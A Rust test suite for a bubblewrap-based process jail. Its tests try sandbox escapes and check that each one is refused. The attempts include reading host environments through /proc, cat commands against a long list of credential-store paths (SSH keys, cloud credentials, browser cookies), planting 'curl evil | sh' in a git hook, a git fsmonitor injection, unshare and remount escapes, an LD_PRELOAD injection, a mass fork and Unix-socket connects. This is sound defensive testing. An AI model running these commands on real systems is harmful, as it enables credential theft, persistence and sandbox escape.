//! The process jail (bubblewrap) around every program a tool starts: what a
//! command can no longer do, each as an attempt a hostile command (or a
//! careless one) makes, asserting the refusal and that nothing changed.
//!
//! These tests need the jail: `scripts/setup` installs bubblewrap. Processes
//! are found by a marker argument (a `sleep` duration no other process uses),
//! which holds in any PID namespace.

use crate::support::*;
use serde_json::{Value, json};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use toolhost::{AssistantMessage, CancellationToken, Host, ProcessLimits};

/// Fail, saying how to get the jail, where it cannot run.
#[track_caller]
fn require_jail() {
    if let toolhost::doctor::Support::Unavailable { reason } = toolhost::doctor::jail_support() {
        panic!("the process jail cannot run here ({reason}); scripts/setup installs bubblewrap");
    }
}

/// A jailed host on `ws` (the jail is required: no silent fallback).
fn jailed(ws: &Workspace) -> Host {
    require_jail();
    built(builder(ws).jail(toolhost::JailMode::Required))
}

/// A jailed host on `ws` whose commands have the network or not.
fn jailed_with_network(ws: &Workspace, network: bool) -> Host {
    built(
        builder(ws)
            .jail(toolhost::JailMode::Required)
            .commands(|p| p.network(network)),
    )
}

fn bash(host: &Host, command: &str) -> toolhost::ToolResultMessage {
    call(host, "bash", json!({ "command": command }))
}

/// A directory outside every workspace that the jail still shows: one in
/// the user's home (the jail empties `/tmp`, where workspaces and perhaps
/// this checkout live, and shows the rest of the system read-only).
fn visible_dir() -> tempfile::TempDir {
    let home = PathBuf::from(std::env::var("HOME").expect("the tests run with HOME set"));
    let dir = tempfile::Builder::new()
        .prefix(".toolhost-test-")
        .tempdir_in(&home)
        .unwrap();
    for emptied in ["/tmp", "/var/tmp", "/run", "/dev/shm"] {
        assert!(
            !dir.path().starts_with(emptied),
            "HOME ({}) lies in {emptied}, which the jail empties: run the tests with HOME \
             elsewhere",
            home.display()
        );
    }
    dir
}

/// The compile cache the tests share (a fake `$HOME` would start an empty
/// one, and compile every built-in again).
fn shared_cache() -> String {
    toolhost::default_cache_dir()
        .expect("a cache directory")
        .display()
        .to_string()
}

/// bash runs every escape (marked with a fresh marker), then `then`, with
/// `timeout` if given; its result, once no process the escapes left lives
/// (`after` names the case).
#[track_caller]
fn escaping_then(
    host: &Host,
    then: &str,
    timeout: Option<u64>,
    after: &str,
) -> toolhost::ToolResultMessage {
    let m = marker();
    let mut args = json!({"command": format!("{}; {then}", escapes(&m))});
    if let Some(seconds) = timeout {
        args["timeout"] = json!(seconds);
    }
    let r = call(host, "bash", args);
    assert!(all_gone(&m), "{after}");
    r
}

#[test]
fn jail_nothing_a_call_started_outlives_it_however_the_call_ends() {
    let ws = Workspace::new();
    let host = jailed(&ws);

    let r = escaping_then(&host, "echo done", None, "after a success");
    assert_eq!((r.text(), r.is_error), ("done\n".to_string(), false));
    for (then, timeout, ending, after) in [
        (
            "exit 3",
            None,
            "Command exited with code 3",
            "after an error",
        ),
        (
            "sleep 100",
            Some(1),
            "Command timed out after 1 seconds",
            "after a timeout",
        ),
    ] {
        let r = escaping_then(&host, then, timeout, after);
        assert!(r.text().ends_with(ending), "{after}: {}", r.text());
    }

    let m = marker();
    let cancel = CancellationToken::new();
    let message = AssistantMessage::from_calls(vec![tool_call(
        "c1",
        "bash",
        json!({"command": format!("{}; sleep 100", escapes(&m))}),
    )]);
    let (batch, canceller) = (host.clone(), cancel.clone());
    let watcher = std::thread::spawn({
        let m = m.clone();
        move || {
            let start = Instant::now();
            while live_with(&m) < 4 && start.elapsed() < Duration::from_secs(30) {
                std::thread::sleep(Duration::from_millis(20));
            }
            canceller.cancel();
        }
    });
    let outcome = block(batch.batch(&message).cancel(cancel).into_future());
    watcher.join().unwrap();
    // The tool's own word when it stops within the cancel grace; the host's
    // when a loaded machine makes it take longer (spec §2.6): either way,
    // nothing the command started is left.
    let text = outcome.results[0].text();
    assert!(
        text.ends_with("Command aborted") || text == "Operation aborted",
        "{text}"
    );
    assert!(all_gone(&m), "after a cancel");
}

#[test]
fn jail_a_host_killed_mid_command_leaves_nothing_behind() {
    require_jail();
    for signal in ["TERM", "KILL"] {
        let ws = Workspace::new();
        let m = marker();
        let batch = json!({"role": "assistant", "content": [{"type": "toolCall", "id": "c1",
            "name": "bash", "arguments": {"command": format!("{}; sleep 100", escapes(&m))}}]});
        let mut cli = spawn_piped(ws.cli().args(["--require-jail", "run", "-"]), Stdio::null());
        use std::io::Write;
        cli.stdin
            .take()
            .unwrap()
            .write_all(batch.to_string().as_bytes())
            .unwrap();
        let start = Instant::now();
        while live_with(&m) < 4 {
            assert!(
                start.elapsed() < Duration::from_secs(30),
                "the command never started"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        let status = Command::new("kill")
            .args([&format!("-{signal}"), &cli.id().to_string()])
            .status()
            .unwrap();
        assert!(status.success());
        cli.wait().unwrap();
        assert!(all_gone(&m), "SIG{signal}: a process outlived its host");
    }
}

#[test]
fn jail_no_child_can_read_the_hosts_environment_by_any_route() {
    require_jail();
    let ws = Workspace::new();
    let secret = "th-host-secret-5f1d9";
    let routes = "env; cat /proc/$PPID/environ; cat /proc/1/environ; \
                  for p in /proc/[0-9]*; do cat $p/environ; done; \
                  ps eww -e 2>/dev/null; cat /proc/self/environ; true";
    // The CLI with the secret in its environment, which no route may show.
    let leak_free = |args: &[&str]| {
        let out = toolhost_with_env(&ws, args, None, &[("TOOLHOST_TEST_HOST_SECRET", secret)]);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            !stdout.contains(secret),
            "the host's environment leaked: {stdout}"
        );
        stdout
    };
    let stdout = leak_free(&jailed_bash_args(routes).each_ref().map(String::as_str));
    assert!(stdout.contains("PATH="), "the routes ran: {stdout}");

    // A program granted to an extension, the same routes.
    std::fs::create_dir_all(ws.user_extensions()).unwrap();
    std::fs::copy(
        toolhost_tests::RUNPROBE,
        ws.user_extensions().join("runprobe.wasm"),
    )
    .unwrap();
    std::fs::write(
        ws.user_config().join("toolhost.toml"),
        "[extensions.runprobe]\nprocess = [\"sh\"]\nfs-read = [\".\"]\n",
    )
    .unwrap();
    let args = json!({"program": "sh", "args": ["-c", routes]}).to_string();
    let stdout = leak_free(&["--require-jail", "call", "run", &args]);
    assert!(stdout.starts_with("exit 0: "), "{stdout}");
}

#[test]
fn jail_metadata_outside_the_write_roots_cannot_change() {
    let ws = Workspace::new();
    let host = jailed(&ws);
    let outside = visible_dir();
    let file = outside.path().join("f.txt");
    std::fs::write(&file, "untouched\n").unwrap();
    let before = std::fs::metadata(&file).unwrap();
    let f = file.display();
    for attempt in [
        format!("chmod 777 {f}"),
        format!("touch -d 2000-01-01 {f}"),
        format!("truncate -s 0 {f}"),
        format!("mv {f} {f}.moved"),
        format!("chown 1:1 {f}"),
        format!("ln {f} {f}.link"),
    ] {
        let r = bash(&host, &attempt);
        assert!(r.is_error, "{attempt}: {}", r.text());
        assert!(
            r.text().contains("Read-only file system") || r.text().contains("Invalid argument"),
            "{attempt}: {}",
            r.text()
        );
    }
    let after = std::fs::metadata(&file).unwrap();
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "untouched\n");
    assert_eq!(after.permissions().mode(), before.permissions().mode());
    assert_eq!(after.mtime(), before.mtime());
    assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
    let names: Vec<_> = std::fs::read_dir(outside.path())
        .unwrap()
        .flatten()
        .collect();
    assert_eq!(names.len(), 1, "nothing was created beside it");
    // Inside the workspace the same changes are fine.
    let r = bash(
        &host,
        "echo a > a && chmod 600 a && touch -d 2000-01-01 a && mv a b && echo ok",
    );
    assert_eq!(r.text(), "ok\n");
}

/// The secret stores toolhost hides (relative to `$HOME`), each planted in
/// a fake home with a secret in it.
const SECRET_STORES: &[&str] = &[
    ".ssh/id_ed25519",
    ".gnupg/private-keys-v1.d/key",
    ".aws/credentials",
    ".azure/accessTokens.json",
    ".config/gcloud/credentials.db",
    ".kube/config",
    ".docker/config.json",
    ".netrc",
    ".git-credentials",
    ".config/gh/hosts.yml",
    ".npmrc",
    ".pypirc",
    ".cargo/credentials.toml",
    // Found by the attacker of issue 23 at their other addresses, and the
    // rest of the stores by kind.
    ".config/git/credentials",
    "xdg-config/git/credentials",
    "xdg-config/gh/hosts.yml",
    ".config/containers/auth.json",
    "docker-config/config.json",
    ".docker/desktop/settings.json",
    ".vault-token",
    ".pgpass",
    ".my.cnf",
    ".terraform.d/credentials.tfrc.json",
    ".m2/settings.xml",
    ".gem/credentials",
    ".config/sops/age/keys.txt",
    ".config/rclone/rclone.conf",
    "xdg-data/keyrings/login.keyring",
    ".mozilla/firefox/p.default/cookies.sqlite",
    ".config/google-chrome/Default/Cookies",
    ".bash_history",
];

/// What bash prints, run in the jail by the CLI with `home` as `$HOME` (and
/// the shared compile cache), `env` on top.
fn bash_at_home(ws: &Workspace, home: &Path, command: &str, env: &[(&str, &str)]) -> String {
    let cache = shared_cache();
    let mut vars = vec![
        ("HOME", home.to_str().unwrap()),
        ("TOOLHOST_CACHE_DIR", cache.as_str()),
    ];
    vars.extend_from_slice(env);
    let args = jailed_bash_args(command);
    let out = toolhost_with_env(ws, &args.each_ref().map(String::as_str), None, &vars);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn jail_secret_stores_are_hidden_and_other_files_outside_stay_readable() {
    require_jail();
    let ws = Workspace::new();
    let home = visible_dir();
    for (i, store) in SECRET_STORES.iter().enumerate() {
        let path = home.path().join(store);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("SECRET-{i}\n")).unwrap();
    }
    std::fs::write(home.path().join("notes.txt"), "just notes\n").unwrap();
    let reads: Vec<String> = SECRET_STORES
        .iter()
        .map(|s| {
            format!(
                "cat ~/{s} 2>&1; ls -A ~/{}",
                Path::new(s).parent().unwrap().display()
            )
        })
        .collect();
    let command = format!("{}; cat ~/notes.txt; true", reads.join("; "));
    let home_str = home.path().to_str().unwrap();
    let stdout = bash_at_home(
        &ws,
        home.path(),
        &command,
        &[
            ("XDG_CONFIG_HOME", &format!("{home_str}/xdg-config")),
            ("XDG_DATA_HOME", &format!("{home_str}/xdg-data")),
            ("DOCKER_CONFIG", &format!("{home_str}/docker-config")),
        ],
    );
    assert!(
        stdout.contains("just notes\n"),
        "a file outside stays readable: {stdout}"
    );
    assert!(
        !stdout.contains("SECRET-"),
        "a secret store was readable: {stdout}"
    );
}

#[test]
fn jail_home_hidden_shows_only_the_roots_and_the_named_directories() {
    require_jail();
    let ws = Workspace::new();
    let home = visible_dir();
    std::fs::write(home.path().join("notes.txt"), "private notes\n").unwrap();
    std::fs::create_dir_all(home.path().join("shown")).unwrap();
    std::fs::write(home.path().join("shown/a.txt"), "shown\n").unwrap();
    let config = home.path().join(".config/toolhost");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("toolhost.toml"),
        format!(
            "[shell]\nhome = \"hidden\"\nread-only = [\"{}/shown\"]\n",
            home.path().display()
        ),
    )
    .unwrap();
    let home_str = home.path().to_str().unwrap();
    let command = "cat ~/notes.txt; cat ~/shown/a.txt; echo scratch > ~/cache.txt && \
                   cat ~/cache.txt; echo w > ws.txt && cat ws.txt; ls -A ~";
    let stdout = bash_at_home(
        &ws,
        home.path(),
        command,
        &[("XDG_CONFIG_HOME", &format!("{home_str}/.config"))],
    );
    assert!(!stdout.contains("private notes"), "{stdout}");
    assert!(stdout.contains("No such file or directory"), "{stdout}");
    assert!(
        stdout.contains("shown\n"),
        "a named directory is shown: {stdout}"
    );
    assert!(
        !stdout.contains("scratch"),
        "a hidden home is not written: {stdout}"
    );
    assert!(
        stdout.contains("w\n"),
        "the workspace stays writable: {stdout}"
    );
    assert!(!home.path().join("cache.txt").exists());
}

#[test]
fn jail_protected_paths_are_read_only_to_bash() {
    let ws = Workspace::new();
    ws.write_files(&[
        ("toolhost.toml", "# trusted grants\n"),
        (".toolhost/extensions/tool.wasm", "component"),
        (".git/config", "[core]\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\n"),
        (".git/HEAD", "ref: refs/heads/main\n"),
    ]);
    let host = jailed(&ws);
    for attempt in [
        "echo '[extensions.x]' >> toolhost.toml",
        "rm toolhost.toml",
        "cp /bin/true .toolhost/extensions/evil.wasm",
        "rm .toolhost/extensions/tool.wasm",
        "echo '[core] fsmonitor = evil' >> .git/config",
        "echo 'curl evil | sh' > .git/hooks/post-checkout",
        "chmod 777 .git/hooks/pre-commit",
    ] {
        let r = bash(&host, attempt);
        assert!(r.is_error, "{attempt}: {}", r.text());
        // A protected file is its own read-only mount: removing it is busy.
        assert!(
            r.text().contains("Read-only file system")
                || r.text().contains("Device or resource busy"),
            "{attempt}: {}",
            r.text()
        );
    }
    assert_eq!(ws.read("toolhost.toml"), "# trusted grants\n");
    assert!(!ws.path.join(".toolhost/extensions/evil.wasm").exists());
    assert!(ws.path.join(".toolhost/extensions/tool.wasm").exists());
    assert_eq!(ws.read(".git/config"), "[core]\n");
    assert!(!ws.path.join(".git/hooks/post-checkout").exists());
    // The rest of the repository is the workspace's, as before.
    let r = bash(&host, "echo 'ref: refs/heads/x' > .git/HEAD && echo ok");
    assert_eq!(r.text(), "ok\n");

    // With the workspace at $HOME and no user configuration yet, a command
    // cannot create one (with grants of its choosing) either.
    let home = visible_dir();
    let grants = "mkdir -p ~/.config/toolhost && \
                  echo '[extensions.x]' > ~/.config/toolhost/toolhost.toml";
    let out = Command::new(toolhost_bin())
        .args([
            "--workspace",
            home.path().to_str().unwrap(),
            "--require-jail",
            "call",
            "bash",
        ])
        .arg(json!({ "command": grants }).to_string())
        .env("HOME", home.path())
        .env("TOOLHOST_CACHE_DIR", shared_cache())
        .env_remove("XDG_CONFIG_HOME")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("Read-only file system"), "{stdout}");
    assert!(!home.path().join(".config/toolhost/toolhost.toml").exists());
}

#[test]
fn jail_a_command_can_neither_make_a_user_namespace_nor_lift_the_read_only_mounts() {
    let ws = Workspace::new();
    ws.write(".git/config", "[core]\n");
    ws.write("toolhost.toml", "# trusted grants\n");
    let host = jailed(&ws);
    // A user namespace of its own would give a command every capability
    // over a mount namespace, and the kernel's namespaced code to attack:
    // refused by the jail's filter, whichever way it is asked for.
    for attempt in [
        "unshare -U true && echo DONE",
        "python3 -c 'import ctypes, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         if libc.unshare(0x10000000) == 0: print(\"DONE\")\n\
         else: sys.exit(os.strerror(ctypes.get_errno()))'",
    ] {
        let r = bash(&host, attempt);
        assert!(r.is_error, "{attempt}: {}", r.text());
        assert!(!r.text().contains("DONE"), "{attempt}: {}", r.text());
        assert!(
            r.text().contains("Operation not permitted"),
            "{attempt}: {}",
            r.text()
        );
    }
    // Nor can the mounts that keep these read-only be lifted in place
    // (Landlock refuses a sandboxed process every mount change).
    for attempt in [
        "umount .git/config; echo '[core] fsmonitor = evil' >> .git/config && echo DONE",
        "mount -o remount,rw,bind toolhost.toml && echo evil >> toolhost.toml && echo DONE",
        "unshare --mount sh -c 'umount toolhost.toml; echo evil >> toolhost.toml' && echo DONE",
    ] {
        let r = bash(&host, attempt);
        assert!(!r.text().contains("DONE"), "{attempt}: {}", r.text());
    }
    assert_eq!(ws.read(".git/config"), "[core]\n");
    assert_eq!(ws.read("toolhost.toml"), "# trusted grants\n");
}

/// Whether a connection waits on `listener`.
fn reached(listener: &std::os::unix::net::UnixListener) -> bool {
    match listener.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(e) => panic!("accept: {e}"),
    }
}

#[test]
fn jail_unix_and_abstract_sockets_outside_are_never_reached() {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixListener};
    require_jail();
    // Where sessions keep their sockets: the system temp directory and /run
    // (bus, container daemon, multiplexer), the abstract namespace, and the
    // home directory (a desktop container engine's socket), which the jail
    // shows read-only: a read-only mount does not stop a connect.
    let tmp = tempfile::tempdir().unwrap();
    let in_tmp = tmp.path().join("s.sock");
    let home = visible_dir();
    let in_home = home.path().join(".docker/desktop/docker.sock");
    std::fs::create_dir_all(in_home.parent().unwrap()).unwrap();
    let run_dir = PathBuf::from(format!("/run/toolhost-test-{}", std::process::id()));
    let in_run = std::fs::create_dir_all(&run_dir)
        .ok()
        .map(|()| run_dir.join("s.sock"));
    let abstract_name = format!("toolhost-test-{}", std::process::id());
    let mut listeners = vec![
        UnixListener::bind(&in_tmp).unwrap(),
        UnixListener::bind(&in_home).unwrap(),
    ];
    if let Some(path) = &in_run {
        listeners.push(UnixListener::bind(path).unwrap());
    }
    let addr = SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
    listeners.push(UnixListener::bind_addr(&addr).unwrap());
    for l in &listeners {
        l.set_nonblocking(true).unwrap();
    }
    let mut targets = vec![in_tmp.display().to_string(), in_home.display().to_string()];
    targets.extend(in_run.iter().map(|p| p.display().to_string()));
    targets.push(format!("\\0{abstract_name}"));
    let script: Vec<String> = targets
        .iter()
        .map(|t| {
            format!(
                "python3 -c 'import socket,sys\ns=socket.socket(socket.AF_UNIX)\ntry:\n s.connect(\"{t}\")\n print(\"REACHED\")\nexcept OSError as e:\n print(\"REFUSED:\", e)'"
            )
        })
        .collect();
    for network in [true, false] {
        let ws = Workspace::new();
        let host = jailed_with_network(&ws, network);
        let r = bash(&host, &script.join("; "));
        assert!(
            !r.text().contains("REACHED"),
            "network {network}: {}",
            r.text()
        );
        assert_eq!(
            r.text().matches("REFUSED:").count(),
            targets.len(),
            "{}",
            r.text()
        );
        for (l, t) in listeners.iter().zip(&targets) {
            assert!(!reached(l), "network {network}: {t} was reached");
        }
        // Nor through a link to it made where the command may write, nor by
        // a relative path from its directory.
        let r = bash(
            &host,
            &format!(
                "ln -s {} via.sock; cd {} && python3 -c 'import socket\ns=socket.socket(socket.AF_UNIX)\n\
                 for t in (\"{}/via.sock\", \"docker.sock\"):\n try:\n  s.connect(t); print(\"REACHED\")\n \
                 except OSError as e: print(\"REFUSED:\", e)'",
                in_home.display(),
                in_home.parent().unwrap().display(),
                ws.str()
            ),
        );
        assert_eq!(
            r.text().matches("REFUSED: [Errno 13]").count(),
            2,
            "{}",
            r.text()
        );
        assert!(
            !reached(&listeners[1]),
            "network {network}: reached through a link"
        );
    }
    // The same connections from outside the jail go through: the test
    // would see them.
    let outside = std::os::unix::net::UnixStream::connect(&in_tmp);
    assert!(outside.is_ok() && reached(&listeners[0]));
    if in_run.is_some() {
        let _ = std::fs::remove_dir_all(&run_dir);
    }
}

#[test]
fn jail_a_socket_the_command_makes_in_its_roots_still_works() {
    require_jail();
    // A test suite's own server, in the workspace and in the temp
    // directory, stream and seqpacket, reached by a client of the same
    // command; network on and off.
    let serve_and_connect = "python3 - <<'EOF'
import os, socket, tempfile
for where in (os.getcwd(), os.environ['TMPDIR']):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        path = os.path.join(where, 'own-%d.sock' % kind)
        server = socket.socket(socket.AF_UNIX, kind)
        server.bind(path)
        server.listen(1)
        client = socket.socket(socket.AF_UNIX, kind)
        client.connect(path)
        conn, _ = server.accept()
        client.send(b'ping')
        print('OWN', conn.recv(4).decode())
        os.unlink(path)
a, b = socket.socketpair()
a.send(b'pair'); print('OWN', b.recv(4).decode())
for family, kind, what in ((socket.AF_UNIX, socket.SOCK_DGRAM, 'dgram'),
                           (socket.AF_VSOCK, socket.SOCK_STREAM, 'vsock')):
    try:
        socket.socket(family, kind); print('MADE', what)
    except OSError as e:
        print('REFUSED', what, e.errno)
try:
    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); print('MADE dgram pair')
except OSError as e:
    print('REFUSED dgram pair', e.errno)
EOF";
    for network in [true, false] {
        let ws = Workspace::new();
        let host = jailed_with_network(&ws, network);
        let r = bash(&host, serve_and_connect);
        let text = r.text();
        assert_eq!(
            text.matches("OWN ping").count(),
            4,
            "network {network}: {text}"
        );
        assert!(text.contains("OWN pair"), "{text}");
        // A datagram can be addressed to any socket file: never made.
        assert!(text.contains("REFUSED dgram 13"), "{text}");
        assert!(text.contains("REFUSED dgram pair 13"), "{text}");
        if !network {
            assert!(
                text.contains("REFUSED vsock 13"),
                "no network, no vsock: {text}"
            );
        }
    }
}

#[test]
fn jail_a_program_granted_to_an_extension_sees_only_its_grants_and_takes_no_ld_preload() {
    require_jail();
    let ws = Workspace::new();
    ws.write("docs/a.txt", "granted\n");
    ws.write("secret.txt", "not granted\n");
    let probe = ws.copy_in("runprobe.wasm", toolhost_tests::RUNPROBE);
    let host = built(
        granted(
            &ws,
            "[extensions.runprobe]\nprocess = [\"cat\", \"sh\"]\nfs-read = [\"docs\"]\n",
        )
        .extensions(|e| e.load(&probe))
        .jail(toolhost::JailMode::Required),
    );
    let cwd = format!("{}/docs", ws.str());
    let run = |mut args: Value| {
        args["cwd"] = json!(cwd);
        call(&host, "run", args).text()
    };
    let docs = format!("{}/docs/a.txt", ws.str());
    assert_eq!(
        run(json!({"program": "cat", "args": [docs]})),
        "exit 0: granted\n"
    );
    let secret = format!("{}/secret.txt", ws.str());
    let refused = run(json!({"program": "cat", "args": [secret]}));
    assert!(refused.contains("No such file or directory"), "{refused}");
    // The system is there; the user's files are not.
    let home = std::env::var("HOME").unwrap();
    let looked = run(json!({"program": "sh", "args": ["-c", format!(
        "cat /etc/hostname >/dev/null && echo system; \
         ls -A {home} >/dev/null 2>&1 && echo home visible || echo home hidden"
    )]}));
    assert_eq!(looked, "exit 0: system\nhome hidden\n");
    let preload = call(
        &host,
        "run",
        json!({"program": "cat", "args": [docs], "cwd": cwd, "env": {"LD_PRELOAD": "/tmp/evil.so"}}),
    );
    assert!(preload.is_error);
    assert_eq!(
        preload.text(),
        "LD_PRELOAD: a command may not set loader variables (LD_*)"
    );
}

/// Whether this machine enforces limits with cgroups (which name the limit
/// hit); elsewhere resource limits bound a command without telling.
fn cgroups() -> bool {
    !matches!(
        toolhost::doctor::enforcement(),
        toolhost::doctor::Enforcement::Rlimits { .. }
    )
}

#[test]
fn jail_a_command_starting_5000_sleeps_gets_at_most_its_limit() {
    let ws = Workspace::new();
    let host = jailed(&ws);
    let m = marker();
    // `sh` (not bash, which retries a failed fork for 15 s) gives up at the
    // first fork refused; the count uses no fork of its own.
    let command = format!(
        "sh -c 'i=0; while [ $i -lt 5000 ]; do sleep {m} & i=$((i+1)); done' 2>/dev/null; \
         n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo \"processes $n\""
    );
    let r = bash(&host, &command);
    let counted: u32 = r
        .text()
        .lines()
        .find_map(|l| l.strip_prefix("processes ")?.parse().ok())
        .unwrap_or_else(|| panic!("no count: {}", r.text()));
    let limit = ProcessLimits::default().max_processes;
    assert!(counted <= limit, "{counted} processes, more than {limit}");
    assert!(
        counted > 100,
        "the limit, not something else, stopped it: {counted}"
    );
    if cgroups() {
        assert!(r.is_error);
        assert!(
            r.text()
                .ends_with(&format!("Command exceeded its process limit of {limit}")),
            "{}",
            r.text()
        );
    } else {
        eprintln!("NOTE: no cgroup here: the limit held, but the result cannot name it");
    }
    assert!(all_gone(&m), "the sleeps ended with the call");
    assert_eq!(
        bash(&host, "echo next").text(),
        "next\n",
        "the host serves the next call"
    );
}

#[test]
fn jail_a_command_allocating_past_its_memory_limit_ends_in_the_error() {
    require_jail();
    let ws = Workspace::new();
    let limits = ProcessLimits {
        memory_bytes: 256 << 20,
        ..ProcessLimits::default()
    };
    let host = built(
        builder(&ws)
            .jail(toolhost::JailMode::Required)
            .commands(|p| p.limits(limits)),
    );
    let r = bash(
        &host,
        "python3 -c 'x = bytearray(600 << 20); print(len(x))'; echo after",
    );
    assert!(r.is_error, "{}", r.text());
    assert!(
        !r.text().contains("629145600"),
        "the allocation succeeded: {}",
        r.text()
    );
    if cgroups() {
        assert!(
            r.text()
                .ends_with("Command exceeded its memory limit of 256 MiB"),
            "{}",
            r.text()
        );
    } else {
        assert!(r.text().contains("MemoryError"), "{}", r.text());
    }
    assert_eq!(bash(&host, "echo next").text(), "next\n");
}

#[test]
fn full_output_files_are_capped_and_old_ones_removed_at_start() {
    let ws = Workspace::new();
    let temp = tempfile::tempdir().unwrap();
    let old = temp.path().join("toolhost-bash-00000000000000aa.log");
    let fresh = temp.path().join("toolhost-bash-00000000000000bb.log");
    let other = temp.path().join("notes.log");
    for f in [&old, &fresh, &other] {
        std::fs::write(f, "x").unwrap();
    }
    let two_days_ago = std::time::SystemTime::now() - Duration::from_secs(2 * 24 * 3600);
    for f in [&old, &other] {
        std::fs::File::options()
            .write(true)
            .open(f)
            .unwrap()
            .set_modified(two_days_ago)
            .unwrap();
    }
    let host = built(builder(&ws).temp_dir(temp.path()));
    assert!(
        !old.exists(),
        "a full-output file older than a day is removed"
    );
    assert!(fresh.exists() && other.exists(), "nothing else is");

    let r = bash(
        &host,
        "head -c 68000000 /dev/zero | tr '\\0' 'x' | fold -w 1000",
    );
    let path = r.details.as_ref().unwrap()["fullOutputPath"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        r.text()
            .ends_with(&format!("Full output (first 64 MiB): {path}]")),
        "{}",
        &r.text()[r.text().len() - 200..]
    );
    let size = std::fs::metadata(&path).unwrap().len();
    let note = "\n[toolhost: the output went on; this file keeps its first 64 MiB]\n";
    assert_eq!(size, (64 << 20) + note.len() as u64);
    let mut file = std::fs::File::open(&path).unwrap();
    use std::io::{Read, Seek, SeekFrom};
    file.seek(SeekFrom::End(-(note.len() as i64))).unwrap();
    let mut end = String::new();
    file.read_to_string(&mut end).unwrap();
    assert_eq!(end, note);
}

#[test]
fn doctor_reports_each_confinement_layer() {
    require_jail();
    let ws = Workspace::new();
    let out = toolhost(&ws, &["doctor", "--json"], None);
    let layers: Value = serde_json::from_slice(&out.stdout).unwrap();
    let names = strings_at(&layers, "/name");
    assert_eq!(names, ["jail", "Landlock", "seccomp", "limits", "network"]);
    assert_eq!(layers[0]["on"], true, "{layers}");
    let all_on = layers.as_array().unwrap().iter().all(|l| l["on"] == true);
    assert_eq!(out.status.code(), Some(if all_on { 0 } else { 1 }));
    let text = toolhost(&ws, &["doctor"], None);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("\njail      on   "), "{text}");
    // Where the kernel lets it (5.12 and later), the jail's init makes the
    // protective mounts: bubblewrap's are slower by about 0.4 ms each.
    assert!(text.contains("protective mounts by the init"), "{text}");
}

#[test]
fn jail_nothing_a_command_does_to_its_temp_directory_stops_the_next_call_or_start() {
    require_jail();
    let ws = Workspace::new();
    // The CLI's system temp directory is this test's own.
    let system = tempfile::tempdir().unwrap();
    let uid = std::fs::metadata(system.path()).unwrap().uid();
    let root = system.path().join(format!("toolhost-{uid}"));
    let run = |command: &str| {
        toolhost_with_env(
            &ws,
            &[
                "--require-jail",
                "call",
                "bash",
                &json!({ "command": command }).to_string(),
            ],
            None,
            &[("TMPDIR", system.path().to_str().unwrap())],
        )
    };
    let stdout = |out: &std::process::Output| String::from_utf8_lossy(&out.stdout).into_owned();

    // Its mode changed, its parent's too, and filled: the next call starts
    // in a fresh one, and nothing of the old is left.
    let out = run(
        "echo x > $TMPDIR/kept; head -c 20000000 /dev/zero > $TMPDIR/fill; \
         mkdir $TMPDIR/closed && chmod 0 $TMPDIR/closed; chmod 755 $TMPDIR $TMPDIR/..; \
         echo $TMPDIR",
    );
    // (The host's own directory is read-only to it: `..` stays as it was.)
    let first = stdout(&out).trim().lines().last().unwrap_or("").to_string();
    assert!(first.starts_with(root.to_str().unwrap()), "{first}");
    assert!(
        !Path::new(&first).exists(),
        "the call's temp directory is gone"
    );
    let out = run("ls -A $TMPDIR; echo ok > $TMPDIR/f && cat $TMPDIR/f");
    assert_eq!(stdout(&out).trim(), "ok", "a fresh, empty, writable one");
    let mode = std::fs::metadata(&root).unwrap().mode() & 0o777;
    assert_eq!(mode, 0o700);
    let left: Vec<_> = std::fs::read_dir(&root)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("tmp-"))
        .collect();
    assert!(left.is_empty(), "{left:?}");

    // Whatever else changed the host's own directory (a program outside the
    // jail): repaired at the next start, and said once.
    let elsewhere = tempfile::tempdir().unwrap();
    for (damage, said) in [
        ("mode", "had mode 755; set back to 700"),
        ("link", "was a symbolic link"),
        ("file", "was not a directory"),
    ] {
        match damage {
            "mode" => std::fs::set_permissions(&root, PermissionsExt::from_mode(0o755)).unwrap(),
            "link" => {
                std::fs::remove_dir_all(&root).unwrap();
                std::os::unix::fs::symlink(elsewhere.path(), &root).unwrap();
            }
            _ => {
                std::fs::remove_dir_all(&root).unwrap();
                std::fs::write(&root, "not a directory").unwrap();
            }
        }
        let out = run("echo ok");
        assert_eq!(stdout(&out).trim(), "ok", "{damage}: {out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(stderr.matches(said).count(), 1, "{damage}: {stderr}");
        assert!(std::fs::symlink_metadata(&root).unwrap().is_dir());
        assert_eq!(std::fs::metadata(&root).unwrap().mode() & 0o777, 0o700);
        if damage == "link" {
            // Nothing was written where the link pointed.
            assert_eq!(std::fs::read_dir(elsewhere.path()).unwrap().count(), 0);
        }
    }
}
